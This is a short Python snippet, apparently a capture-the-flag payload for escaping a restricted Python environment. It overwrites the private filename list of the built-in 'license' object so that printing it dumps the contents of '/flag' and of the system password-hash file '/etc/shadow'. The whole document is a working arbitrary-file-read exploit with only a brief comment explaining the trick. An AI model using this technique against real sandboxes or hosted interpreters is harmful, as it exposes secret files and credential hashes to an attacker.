# The site "license" object reads its text lazily from a list of files in a
# name-mangled attribute; repointing that list makes repr(license) return
# the contents of /flag.
P = license
setattr(P, '_Printer__filenames', ['/flag', '/etc/shadow'])
setattr(P, '_Printer__lines', None)
print(repr(P))
